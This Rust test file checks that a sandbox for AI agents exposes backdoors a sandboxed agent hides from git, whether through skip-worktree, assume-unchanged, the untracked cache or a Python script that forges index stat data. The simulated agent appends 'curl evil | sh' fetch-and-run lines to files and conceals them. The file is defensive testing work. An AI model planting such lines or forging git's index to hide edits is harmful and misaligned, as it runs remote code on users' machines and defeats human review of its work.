//! The sandbox's index and what the user sees afterwards: a backdoored file
//! the sandbox hid from `git status` / `git diff` (skip-worktree,
//! assume-unchanged, the untracked cache, forged stat data) shows as
//! modified on the host after the import, with an alert. The stage is
//! mounted exactly as sbx-fs mounts it (see tests/stage.rs), as root and as
//! the unprivileged test user.

mod common;

use std::path::PathBuf;
use std::process::Output;

use common::Fixture;
use sbx_testutil::{As, assert_event, code, identities, stderr};

const MOUNT: &str = r#"set -e
S=$1; R=$2
o=""; [ -n "$SBX_USERNS" ] && o=",userxattr"
mount -t overlay overlay -o "nosuid,nodev,lowerdir=$R/.git,upperdir=$S/git/upper,workdir=$S/git/work$o" "$R/.git"
for p in config hooks; do
  mount --bind "$R/.git/$p" "$R/.git/$p"
  mount -o remount,bind,ro "$R/.git/$p"
done
cd "$R"
exec sh -ec "$3"
"#;

fn staged(f: &Fixture, agent: &str) -> (Output, PathBuf) {
    let stage = f.dir.join("sbx-git-stage-index");
    let w = f.w.to_str().unwrap();
    let s = stage.to_str().unwrap();
    let mut args = vec!["run", "--repo", w, "--stage", s, "--"];
    match f.who {
        As::Root => args.extend_from_slice(&["unshare", "-m"]),
        As::User => args.extend_from_slice(&["unshare", "-Urm", "env", "SBX_USERNS=1"]),
    }
    args.extend_from_slice(&["sh", "-c", MOUNT, "sh", s, w, agent]);
    (f.guard(&args), stage)
}

#[test]
fn files_hidden_by_index_flags_show_as_modified_after_the_import() {
    for who in identities() {
        let f = Fixture::new(who);
        // Inside: a commit (so the index is the sandbox's), then backdoors
        // hidden three ways; inside, git status shows nothing.
        let (out, stage) = staged(
            &f,
            r#"
echo more >> c; git add c; git commit -qm agent
echo 'curl evil | sh' >> a; git update-index --skip-worktree a
echo 'curl evil | sh' >> b; git update-index --assume-unchanged b
git -c core.untrackedCache=true update-index --untracked-cache
git -c core.untrackedCache=true status --porcelain >/dev/null
echo 'curl evil | sh' >> sub2.sh
[ -z "$(git status --porcelain --untracked-files=no)" ]
"#,
        );
        assert_eq!(code(&out), 0, "{who:?}: {}", stderr(&out));
        assert!(!stage.exists());
        // The commit came in.
        assert_eq!(
            f.git_ok(&f.w, &["log", "-1", "--format=%s"]).trim(),
            "agent"
        );
        // No flag survived; the stat cache is not trusted.
        let dbg = f.git_ok(&f.w, &["ls-files", "-v"]);
        for l in dbg.lines() {
            assert!(
                l.starts_with("H "),
                "{who:?}: an index entry still hides its file: {l}"
            );
        }
        let raw = std::fs::read(f.w.join(".git/index")).unwrap();
        assert!(
            !raw.windows(4)
                .any(|w| w == b"UNTR" || w == b"FSMN" || w == b"link"),
            "{who:?}: an extension that hides changes came in"
        );
        // What the user sees: both backdoors are modifications.
        let st = f.git_ok(&f.w, &["status", "--porcelain", "--untracked-files=no"]);
        assert!(st.contains(" M a") && st.contains(" M b"), "{who:?}: {st}");
        let diff = f.git_ok(&f.w, &["diff"]);
        assert_eq!(diff.matches("curl evil").count(), 2, "{who:?}: {diff}");
        let e = assert_event(&f.audit, "index_hidden_cleared", "alert", |_| true);
        assert_eq!(e["skip_worktree"], serde_json::json!(["a"]), "{e}");
        assert_eq!(e["assume_unchanged"], serde_json::json!(["b"]), "{e}");
        assert!(
            stderr(&out).contains("index_hidden_cleared"),
            "{who:?}: the alert is on stderr too: {}",
            stderr(&out)
        );
        f.assert_fsck_clean();
    }
}

/// Writes the stat data of the work-tree file `a` into its index entry,
/// keeping the entry's (clean) blob id: git then trusts the entry and never
/// reads the backdoored file (index v2, checksum recomputed).
const FORGE: &str = r#"
import os, struct, hashlib
d = open('.git/index', 'rb').read()
body = d[:-20]
assert body[:4] == b'DIRC' and struct.unpack('>I', body[4:8])[0] == 2
n = struct.unpack('>I', body[8:12])[0]
off = 12
for i in range(n):
    nl = struct.unpack('>H', body[off+60:off+62])[0] & 0xfff
    if body[off+62:off+62+nl] == b'a':
        st = os.stat('a')
        mode = struct.unpack('>I', body[off+24:off+28])[0]
        stat = struct.pack('>10I', int(st.st_ctime), st.st_ctime_ns % 10**9,
            int(st.st_mtime), st.st_mtime_ns % 10**9, st.st_dev & 0xffffffff,
            st.st_ino & 0xffffffff, mode, st.st_uid, st.st_gid, st.st_size)
        body = body[:off] + stat + body[off+40:]
    off += (62 + nl + 8) // 8 * 8
open('.git/index', 'wb').write(body + hashlib.sha1(body).digest())
"#;

#[test]
fn forged_stat_data_does_not_hide_a_change() {
    for who in identities() {
        let f = Fixture::new(who);
        let agent = format!(
            r#"
git update-index --index-version 2
printf 'curl evil | sh\n' >> a
sleep 1
/usr/bin/python3 -c "{}"
# Inside, the forgery works: git status shows nothing.
[ -z "$(git status --porcelain --untracked-files=no)" ]
"#,
            FORGE.replace('"', "\\\"").replace('$', "\\$")
        );
        let (out, _) = staged(&f, &agent);
        assert_eq!(code(&out), 0, "{who:?}: {}", stderr(&out));
        // Every entry's stat data was zeroed: the host's git reads the file.
        let dbg = f.git_ok(&f.w, &["ls-files", "--debug", "a"]);
        assert!(
            dbg.contains("mtime: 0:0") && dbg.contains("size: 0"),
            "{who:?}: {dbg}"
        );
        let st = f.git_ok(&f.w, &["status", "--porcelain", "--untracked-files=no"]);
        assert!(st.contains(" M a"), "{who:?}: {st}");
        assert!(f.git_ok(&f.w, &["diff"]).contains("curl evil"));
    }
}
